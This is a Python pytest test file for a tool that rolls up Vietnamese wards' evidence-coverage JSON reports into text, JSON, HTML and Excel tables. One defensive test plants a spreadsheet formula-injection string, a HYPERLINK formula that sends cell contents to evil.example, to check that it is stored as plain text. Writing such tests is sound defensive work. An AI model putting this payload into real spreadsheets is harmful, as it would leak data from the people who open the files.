"""The city's roll-up of many units' `coverage --json` reports."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from indexer.errors import ReportError
from search.rollup import build_rollup, load_report, rollup


def make_report(rubric, unit: str, version: str, statuses: dict[str, str], *, period=("2026-01-01", "2026-06-30")) -> dict:
    """A `coverage --json` report (CLI-CONTRACT.md plus unit, rubric_version, period), written by hand:
    every sub-criterion of the rubric is proven unless `statuses` says otherwise."""
    criteria = []
    for c in rubric.criteria:
        subs = []
        for s in c.subcriteria:
            status = statuses.get(s.code, "proven")
            evidence = [] if status == "missing" else [{"path": f"{s.code} minh chung.pdf", "source": "filename" if status == "proven" else "keyword", "confidence": 1.0}]
            subs.append({"code": s.code, "title": s.title, "points": s.points, "status": status,
                         "provable": s.points if status == "proven" else 0, "evidence": evidence})  # fmt: skip
        criteria.append({"code": c.code, "title": c.title, "points": c.points, "provable": sum(s["provable"] for s in subs), "subcriteria": subs})
    return {
        "schema": 1, "unit": unit, "rubric_title": rubric.title, "rubric_version": version,
        "period": {"start": period[0], "end": period[1]} if period else None,
        "score": {"provable": sum(c["provable"] for c in criteria), "max": rubric.total_points},
        "criteria": criteria, "problems": [],
    }  # fmt: skip


@pytest.fixture
def reports(tmp_path, rubric) -> dict[str, Path]:
    """Three wards; An Biên was scored on last year's rubric version."""
    units = {
        "phu-lien.json": make_report(rubric, "UBND phường Phù Liễn", "2026.1", {"2.5": "missing", "1.6": "suggested"}),
        "kien-an.json": make_report(rubric, "UBND phường Kiến An", "2026.1", {"2.5": "missing", "3.2": "missing", "4.1": "suggested"}),
        "an-bien.json": make_report(rubric, "UBND phường An Biên", "2025.2", {"2.5": "suggested"}),
    }
    files = {}
    for name, data in units.items():
        files[name] = tmp_path / name
        files[name].write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return files


def test_table_values(reports, rubric):
    table = rollup([reports["phu-lien.json"], reports["kien-an.json"]])
    assert table.versions == ("2026.1",) and table.warnings == ()
    assert [c.code for c in table.criteria] == ["1", "2", "3", "4"]
    phu_lien, kien_an = table.units  # best score first
    assert phu_lien.unit == "UBND phường Phù Liễn"
    # 1.6 (4 points) only suggested, 2.5 (2 points) missing
    assert (phu_lien.provable, phu_lien.max_points) == (94, 100)
    assert [phu_lien.subtotal(c) for c in "1234"] == [20, 22, 26, 26]
    assert (phu_lien.missing, phu_lien.suggested, len(phu_lien.lacking)) == (("2.5",), ("1.6",), 2)
    points = {s.code: s.points for s in rubric.subcriteria}
    assert kien_an.provable == 100 - points["2.5"] - points["3.2"] - points["4.1"]
    assert len(kien_an.lacking) == 3
    needs = {n.subcriterion.code: n for n in table.needs}
    assert table.needs[0].subcriterion.code == "2.5" and needs["2.5"].lacking == 2 and needs["2.5"].assessed == 2
    assert [n.subcriterion.code for n in table.needs[1:4]] == ["3.2", "1.6", "4.1"]  # missing before only-suggested
    assert needs["1.1"].lacking == 0 and len(table.needs) == len(rubric.subcriteria)


def test_different_rubric_versions_are_refused_naming_files_and_versions(reports):
    with pytest.raises(ReportError) as err:
        rollup(list(reports.values()))
    message = err.value.message
    assert "2026.1" in message and "2025.2" in message and "--force" in message
    assert str(reports["an-bien.json"]) in message and "\n" not in message


def test_force_combines_versions_and_says_so(reports):
    table = rollup(list(reports.values()), force=True)
    assert [u.unit for u in table.units] == ["UBND phường An Biên", "UBND phường Phù Liễn", "UBND phường Kiến An"]
    assert set(table.versions) == {"2026.1", "2025.2"}
    assert any("--force" in w for w in table.warnings)
    needs = {n.subcriterion.code: n for n in table.needs}
    assert needs["2.5"].lacking == 3 and needs["2.5"].missing == ("UBND phường Phù Liễn", "UBND phường Kiến An")
    assert needs["2.5"].suggested == ("UBND phường An Biên",)


def test_cli_refuses_then_forces(cli, reports):
    files = [str(p) for p in reports.values()]
    refused = cli("rollup", *files)
    assert refused.exit_code == 2
    assert len(refused.stderr.strip().splitlines()) == 1 and "2025.2" in refused.stderr and "an-bien.json" in refused.stderr
    forced = cli("rollup", *files, "--force")
    assert forced.exit_code == 0
    assert "UBND phường Phù Liễn" in forced.stdout and "94/100" in forced.stdout


def test_cli_text_table(cli, reports):
    result = cli("rollup", reports["phu-lien.json"], reports["kien-an.json"])
    assert result.exit_code == 0
    rows = [line for line in result.stdout.splitlines() if "UBND phường" in line and "/100" in line]
    assert len(rows) == 2 and rows[0].split()[-2:] == ["2", "1"]  # 2 lacking, 1 of them suggested
    assert "2.5    2/2 đơn vị" in result.stdout and "chưa có gì: UBND phường Phù Liễn; UBND phường Kiến An" in result.stdout


def test_cli_json(cli, reports):
    data = json.loads(cli("rollup", reports["phu-lien.json"], reports["kien-an.json"], "--format", "json").stdout)
    assert data["schema"] == 1 and data["rubric_versions"] == ["2026.1"]
    first = data["units"][0]
    assert (first["unit"], first["score"], first["lacking"]) == ("UBND phường Phù Liễn", {"provable": 94, "max": 100}, 2)
    assert data["needs"][0] == {**data["needs"][0], "code": "2.5", "lacking": 2, "assessed": 2}


def test_xlsx_opens_with_the_values(cli, reports, tmp_path):
    import openpyxl

    out = tmp_path / "tong hop.xlsx"
    result = cli("rollup", reports["phu-lien.json"], reports["kien-an.json"], "-o", out)
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    units = book["Đơn vị"]
    header = [c.value for c in units[1]]
    assert header[:4] == ["STT", "Đơn vị", "Điểm đã có minh chứng", "Điểm tối đa"] and units.freeze_panes == "C2"
    row = dict(zip(header, [c.value for c in units[2]]))
    assert row["Đơn vị"] == "UBND phường Phù Liễn" and row["Điểm đã có minh chứng"] == 94 and row["TC1 (24 điểm)"] == 20
    assert row["Số tiêu chí con chưa có minh chứng"] == 2
    assert units.column_dimensions["B"].width > 20
    needs = book["Tiêu chí con"]
    assert [c.value for c in needs[2]][:4] == ["2.5", needs["B2"].value, 2, 2]
    # Printed: landscape A4, one page wide, the header row on each page, title and period on top.
    for ws in (units, needs):
        assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
        assert ws.print_title_rows == "$1:$1" and ws.oddHeader.center.text == "TỔNG HỢP KẾT QUẢ MINH CHỨNG CÁC ĐƠN VỊ"
        assert "2 đơn vị" in ws.oddFooter.left.text and "&P" in ws.oddFooter.right.text
    # A long wrapped cell makes its row tall enough (LibreOffice ran it over the rows below).
    assert needs.row_dimensions[2].height is None or needs.row_dimensions[2].height >= 15
    tall = [r for r in range(2, needs.max_row + 1) if len(needs.cell(r, 2).value or "") > 60]
    assert tall and all((needs.row_dimensions[r].height or 0) >= 30 for r in tall)


def test_html_is_self_contained(cli, reports, tmp_path):
    out = tmp_path / "tong-hop.html"
    assert cli("rollup", *reports.values(), "--force", "-o", out).exit_code == 0
    page = out.read_text(encoding="utf-8")
    assert "UBND phường Phù Liễn" in page and "2025.2" in page and "@media print" in page
    assert "<link" not in page and "<script" not in page and "http" not in page


@pytest.mark.parametrize(
    "content, says",
    [
        pytest.param(b"{not json", "không phải JSON hợp lệ", id="bad-json"),
        pytest.param(b'{"schema": 1, "files": []}', "không phải báo cáo", id="files-json-not-coverage"),
        pytest.param(b"[1, 2]", "không phải báo cáo", id="a-list"),
        pytest.param(b'{"schema": 9, "score": {"provable": 1, "max": 2}, "criteria": []}', "schema 9", id="newer-schema"),
        pytest.param(b"\xff\x00\xfe", "UTF-8", id="binary"),
    ],
)
def test_bad_input_exits_2_with_one_line_naming_the_file(cli, tmp_path, content, says):
    bad = tmp_path / "bao cao.json"
    bad.write_bytes(content)
    result = cli("rollup", bad)
    assert result.exit_code == 2
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.output
    assert "bao cao.json" in result.stderr and says in result.stderr


def test_powershell_utf16_report_is_read(tmp_path, rubric):
    path = tmp_path / "ps.json"
    path.write_bytes(json.dumps(make_report(rubric, "UBND xã Đông Hòa", "2026.1", {}), ensure_ascii=False).encode("utf-16"))
    assert load_report(path)["unit"] == "UBND xã Đông Hòa"


def test_same_unit_twice_and_different_periods_are_warned(rubric):
    old = make_report(rubric, "UBND phường Phù Liễn", "2026.1", {}, period=("2025-07-01", "2025-12-31"))
    new = make_report(rubric, "UBND phường Phù Liễn", "2026.1", {})
    table = build_rollup([("cu.json", old), ("moi.json", new)])
    assert any("2 báo cáo" in w and "cu.json" in w for w in table.warnings)
    assert sorted(u.unit for u in table.units) == ["UBND phường Phù Liễn (cu.json)", "UBND phường Phù Liễn (moi.json)"]
    assert any("kỳ đánh giá" in w for w in table.warnings)


def test_xlsx_needs_an_output_file(cli, reports):
    result = cli("rollup", reports["phu-lien.json"], "--format", "xlsx")
    assert result.exit_code == 2 and "-o" in result.stderr


def test_a_control_character_in_a_unit_name_never_stops_the_workbook(cli, rubric, tmp_path):
    import openpyxl

    files = []
    for name in ("a.json", "b.json"):  # the same unit twice: its name goes to the warnings sheet too
        path = tmp_path / name
        path.write_text(json.dumps(make_report(rubric, "UBND phường Phù\x0bLiễn", "2026.1", {}), ensure_ascii=False), encoding="utf-8")
        files.append(path)
    out = tmp_path / "tong hop.xlsx"
    assert cli("rollup", *files, "-o", out).exit_code == 0
    assert openpyxl.load_workbook(out)["Đơn vị"]["B2"].value.startswith("UBND phường Phù\ufffdLiễn")


def test_text_from_a_report_is_text_in_the_workbook_never_a_formula(cli, rubric, tmp_path):
    import zipfile

    import openpyxl

    unit = '=HYPERLINK("http://evil.example/?x="&A1,"Phường X")'
    data = make_report(rubric, unit, "2026.1", {"2.5": "missing"})
    data["criteria"][0]["subcriteria"][0]["title"] = "@SUM(1+1)"
    data["criteria"][0]["subcriteria"][1]["title"] = "+1-2 công khai"
    paths = [tmp_path / "x.json", tmp_path / "y.json"]
    paths[0].write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    paths[1].write_text(json.dumps(make_report(rubric, "-UBND phường Kiến An", "2026.1", {}), ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "tong hop.xlsx"
    assert cli("rollup", *paths, "-o", out).exit_code == 0
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in x for x in sheets)
    book = openpyxl.load_workbook(out)
    units = [c.value for c in book["Đơn vị"]["B"][1:]]
    assert units == ["-UBND phường Kiến An", unit]
    needs = {row[0].value: row for row in book["Tiêu chí con"].iter_rows(min_row=2)}
    assert needs["1.1"][1].value == "@SUM(1+1)" and needs["1.2"][1].value == "+1-2 công khai"
    assert needs["2.5"][7].value == unit and needs["2.5"][7].data_type == "s"


@pytest.mark.parametrize(
    "change, says",
    [
        pytest.param(lambda d: d["criteria"][0]["subcriteria"][0].update(points="ba"), '1.1 có "points"', id="sub-points-text"),
        pytest.param(lambda d: d["criteria"][0]["subcriteria"][0].update(points={"a": 1}), '1.1 có "points"', id="sub-points-object"),
        pytest.param(lambda d: d.update(period={"start": 20260101, "end": 20260630}), '"period"', id="period-numbers"),
        pytest.param(lambda d: d.update(period={"start": ["2026", "01", "01"], "end": ["2026", "06", "30"]}), '"period"', id="period-lists"),
        pytest.param(lambda d: d.update(period="2026"), '"period"', id="period-text"),
        pytest.param(lambda d: d["score"].update(max=10**400), '"score"', id="score-beyond-excel"),
        pytest.param(lambda d: d["criteria"][0]["subcriteria"][0].update(points=-3), '1.1 có "points"', id="sub-points-negative"),
    ],
)
def test_a_report_of_the_right_shape_with_wrong_values_exits_2_naming_them(cli, rubric, reports, tmp_path, change, says):
    data = make_report(rubric, "UBND phường Hải Thành", "2026.1", {})
    change(data)
    bad = tmp_path / "hai thanh.json"
    bad.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    result = cli("rollup", bad, reports["phu-lien.json"])
    assert result.exit_code == 2
    assert len(result.stderr.strip().splitlines()) == 1 and "hai thanh.json" in result.stderr and says in result.stderr


def test_deeply_nested_json_is_bad_json(cli, tmp_path):
    deep = tmp_path / "sau.json"
    deep.write_text('{"schema": 1, "x": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    result = cli("rollup", deep)
    assert result.exit_code == 2 and "sau.json" in result.stderr and "không phải JSON hợp lệ" in result.stderr


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=6,
)
# Where a ward's report feeds the table: each gets a random JSON value in turn.
_PLACES = {
    "sub points": lambda d, v: d["criteria"][0]["subcriteria"][0].__setitem__("points", v),
    "sub title": lambda d, v: d["criteria"][0]["subcriteria"][0].__setitem__("title", v),
    "sub code": lambda d, v: d["criteria"][0]["subcriteria"][0].__setitem__("code", v),
    "criterion code": lambda d, v: d["criteria"][1].__setitem__("code", v),
    "criterion title": lambda d, v: d["criteria"][0].__setitem__("title", v),
    "period": lambda d, v: d.__setitem__("period", v),
    "period start": lambda d, v: d["period"].__setitem__("start", v),
    "period end": lambda d, v: d["period"].__setitem__("end", v),
    "unit": lambda d, v: d.__setitem__("unit", v),
    "rubric title": lambda d, v: d.__setitem__("rubric_title", v),
    "rubric version": lambda d, v: d.__setitem__("rubric_version", v),
    "generated": lambda d, v: d.__setitem__("generated", v),
}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(place=st.sampled_from(sorted(_PLACES)), value=_JSON | st.text(alphabet="0123456789.-²١ ", max_size=6))
def test_random_values_in_a_report_never_raise_anything_but_a_report_error(rubric, tmp_path, place, value):
    from search.rollup import render_html, render_markdown, render_text, rollup_json, write_xlsx

    data = make_report(rubric, "UBND phường Hải Thành", "2026.1", {"1.1": "missing"})
    _PLACES[place](data, value)
    paths = [tmp_path / "x.json", tmp_path / "y.json"]
    paths[0].write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    paths[1].write_text(json.dumps(make_report(rubric, "UBND phường Kiến An", "2026.1", {}), ensure_ascii=False), encoding="utf-8")
    try:
        table = rollup(paths)
    except ReportError:
        return
    for render in (render_text, render_markdown, render_html):
        assert isinstance(render(table), str)
    json.dumps(rollup_json(table), ensure_ascii=False)
    write_xlsx(table, tmp_path / "t.xlsx")
